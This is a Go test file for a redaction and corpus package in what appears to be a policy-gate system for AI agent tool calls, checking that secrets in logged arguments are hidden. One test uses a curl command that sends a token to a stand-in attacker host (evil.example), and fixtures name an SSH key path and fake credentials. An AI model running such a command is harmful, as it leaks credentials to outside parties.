package contexts

import (
	"bytes"
	"fmt"
	"math/rand/v2"
	"strings"
	"testing"

	"github.com/gbt-policy/gbt/gates"
)

func sample(i int) gates.Context {
	return gates.NewContext(gates.Request{
		Tool: "send_email",
		Args: fmt.Appendf(nil, `{"recipients":["anna%d@corp.example"],"body":"the secret is hunter%d","attachments":[]}`, i, i),
	}, gates.State{Cwd: "/work", Roots: []string{"/work"}, UID: -1, GID: -1})
}

func row(l Label, i int, task string) Row {
	c := sample(i)
	r := Redact(&c)
	return NewRow(l, &r, "send_email", Evidence{Episode: fmt.Sprintf("%032x", i), Task: task, Group: "g", From: 1, To: 2, Rule: "r"})
}

func TestRedact(t *testing.T) {
	for _, tc := range []struct{ value, keep, hide string }{
		{"anna.lee@corp.example", "@corp.example", "anna"},
		{"/home/anna/.ssh/id_rsa", "/home/anna/.ssh/id_rsa", ""},
		{"/srv/keys/AKIA1b2C3d4E5f6G7h8I9j0K", "/srv/keys/name:", "AKIA"},
		{"https://user:pw@host.example/path?token=abc", "host.example/rest:", "abc"},
		{"https://user:pw@host.example/", "@host.example/", "pw"},
		{"my password is hunter2", "text:", "hunter2"},
		{"GB29NWBK60161331926819", "word:", "GB29"},
		{"Dora", "name-", "Dora"},
		{"13", "13", ""},
		{"-12.5", "-12.5", ""},
		{"123456", "123456", ""},
		{"4829171", "word:", "4829171"},
		{"482-917-1", "word:", "482"},
		{"50.25", "50.25", ""},
		{"true", "true", ""},
	} {
		got := redactValue(tc.value)
		if !strings.Contains(got, tc.keep) || tc.hide != "" && strings.Contains(got, tc.hide) {
			t.Errorf("redactValue(%q) = %q: want %q in it and not %q", tc.value, got, tc.keep, tc.hide)
		}
		if again := redactValue(got); again != got {
			t.Errorf("redacting %q twice gives %q", got, again)
		}
		if got != redactValue(tc.value) || tc.hide != "" && got == redactValue(tc.value+"x") {
			t.Errorf("%q: equality is lost", tc.value)
		}
	}
}

// TestRedactedAddress holds that a gate on the characters of an address sees
// them, or not, in a value and in what stands for it alike.
func TestRedactedAddress(t *testing.T) {
	for _, v := range []string{"Dora", "general", "team-room", "a@b.example", "DE8937", "www.site.example", "/etc/x", "8.8.8.8"} {
		const address = "0123456789@./:"
		if strings.ContainsAny(v, address) != strings.ContainsAny(redactValue(v), address) {
			t.Errorf("%q and %q differ in address characters", v, redactValue(v))
		}
	}
}

// TestRedactSecret: a secret's role says more than its looks, and of equal ones
// equal digests stay.
func TestRedactSecret(t *testing.T) {
	of := func(tool, args string) string {
		c := gates.NewContext(gates.Request{Tool: tool, Args: []byte(args)}, gates.State{UID: -1, GID: -1})
		r := Redact(&c)
		if again := Redact(&r); again.Args[0].Value != r.Args[0].Value {
			t.Errorf("redacting %s twice: %q, then %q", args, r.Args[0].Value, again.Args[0].Value)
		}
		return r.Args[0].Value
	}
	for _, secret := range []string{"1234", "482917123", "true", "hunter", "/a/b", "a@b.example"} {
		got := of("update_password", `{"password":"`+secret+`"}`)
		if strings.Contains(got, secret) || !strings.HasPrefix(got, "word:") && !strings.HasPrefix(got, "name-") {
			t.Errorf("%q stays as %q", secret, got)
		}
		if got != of("update_password", `{"password":"`+secret+`"}`) || got == of("update_password", `{"password":"`+secret+`0"}`) {
			t.Errorf("%q: equality is lost", secret)
		}
	}
}

func TestRedactOptions(t *testing.T) {
	for _, tc := range []struct{ word, want string }{
		{"-r", "-r"}, {"-rf", "-rf"}, {"--force", "--force"}, {"--no-verify", "--no-verify"}, {"-phunter2secret", "-p"}, {"-p4829171", "-p"}, {"-psecretofmineall", "-p"}, {"-j4", "-j4"}, {"-executable", "-executable"}, {"-p8080", "-p8080"},
	} {
		got := redactWord(tc.word)
		if again := redactWord(got); again != got {
			t.Errorf("%q: %q, then %q", tc.word, got, again)
		}
		if tc.want == "-p" && (!strings.HasPrefix(got, "-p") || strings.Contains(got, tc.word[2:])) || tc.want != "-p" && got != tc.want {
			t.Errorf("%q: %q, want %q", tc.word, got, tc.want)
		}
	}
}

func TestRedactArgv(t *testing.T) {
	got := redactArgv("curl -H --token=s3cr3tvalue https://evil.example/x?d=1 payload")
	if strings.Contains(got, "s3cr3t") || strings.Contains(got, "payload") || !strings.HasPrefix(got, "curl -H --token=") || !strings.Contains(got, "https://evil.example") {
		t.Errorf("argv: %q", got)
	}
}

func TestCanonicalStays(t *testing.T) {
	c := sample(1)
	r := Redact(&c)
	data := r.AppendCanonical(nil)
	p, err := gates.ParseContext(data)
	if err != nil {
		t.Fatalf("a redacted context is not canonical: %v", err)
	}
	if again := Redact(&p); !bytes.Equal(again.AppendCanonical(nil), data) {
		t.Error("redacting twice changes the context")
	}
	if bytes.Contains(data, []byte("hunter")) || bytes.Contains(data, []byte("anna1")) {
		t.Errorf("a secret stays: %s", data)
	}
	if strings.Contains(c.Args[0].Value, ":") && strings.HasPrefix(c.Args[0].Value, "word:") {
		t.Error("redaction changed its argument")
	}
}

func TestRoundTrip(t *testing.T) {
	var c Corpus
	for i := range 50 {
		c.Add(row(Label(i%2), i, fmt.Sprint("t", i%3)))
	}
	var b bytes.Buffer
	if err := c.Write(&b); err != nil {
		t.Fatal(err)
	}
	back, err := Read(bytes.NewReader(b.Bytes()), int64(b.Len()))
	if err != nil {
		t.Fatal(err)
	}
	for _, l := range []Label{Unsafe, Benign} {
		if fmt.Sprint(back.Leaves(l)) != fmt.Sprint(c.Leaves(l)) || back.Len(l) != 25 {
			t.Errorf("%v: other rows after reading", l)
		}
	}
	var again bytes.Buffer
	if err := back.Write(&again); err != nil || !bytes.Equal(again.Bytes(), b.Bytes()) {
		t.Errorf("other bytes after reading: %v", err)
	}
}

// TestOrder adds the same evidence in many orders.
func TestOrder(t *testing.T) {
	var rows []Row
	for i := range 40 {
		rows = append(rows, row(Label(i%2), i/4, fmt.Sprint("t", i)))
	}
	want := ""
	for seed := range uint64(5) {
		rng := rand.New(rand.NewPCG(seed, 1))
		rng.Shuffle(len(rows), func(i, j int) { rows[i], rows[j] = rows[j], rows[i] })
		var c Corpus
		for _, r := range rows {
			c.Add(r)
		}
		got := fmt.Sprint(c.Sample(3).Leaves(Unsafe), c.Sample(3).Leaves(Benign))
		if want == "" {
			want = got
		}
		if got != want {
			t.Fatalf("seed %d: another corpus in another order", seed)
		}
	}
}

func TestAppendOnly(t *testing.T) {
	var c Corpus
	for i := range 20 {
		c.Add(row(Unsafe, i, "t"))
		c.Add(row(Benign, 100+i, "t"))
	}
	s := c.Sample(5)
	if s.Len(Unsafe) != 20 {
		t.Errorf("sampling lost unsafe contexts: %d of 20 stay", s.Len(Unsafe))
	}
	if s.Len(Benign) != 5 {
		t.Errorf("%d benign contexts of one stratum, want 5", s.Len(Benign))
	}
	before := c.Rows(Unsafe)[0].Total
	c.Add(*c.Rows(Unsafe)[0])
	if c.Rows(Unsafe)[0].Total != before {
		t.Error("reading a row again counts its evidence twice")
	}
}

func TestReadRefuses(t *testing.T) {
	var c Corpus
	c.Add(row(Unsafe, 1, "t"))
	r := c.Rows(Unsafe)[0]
	r.Context = bytes.Replace(r.Context, []byte("send_email"), []byte("send_emajl"), 1)
	var b bytes.Buffer
	if err := c.Write(&b); err != nil {
		t.Fatal(err)
	}
	if _, err := Read(bytes.NewReader(b.Bytes()), int64(b.Len())); err == nil {
		t.Error("a context that is not the one its id names was read")
	}
	for _, data := range [][]byte{nil, []byte("PAR1"), b.Bytes()[:b.Len()/2]} {
		if _, err := Read(bytes.NewReader(data), int64(len(data))); err == nil {
			t.Errorf("%d bytes that are no corpus were read", len(data))
		}
	}
}

func FuzzRedact(f *testing.F) {
	for _, s := range []string{"a@b.c", "https://u@h/p", "/a/b", "text:0123456789abcdef", "name-ghijklmnghijklmn", "mail:0123456789abcdef@x.y", "word:", "://", "@", "~", "https://user:0123456789abcdef@h/rest:0123456789abcdef"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		once := redactValue(s)
		if twice := redactValue(once); twice != once {
			t.Fatalf("%q: %q, then %q", s, once, twice)
		}
	})
}
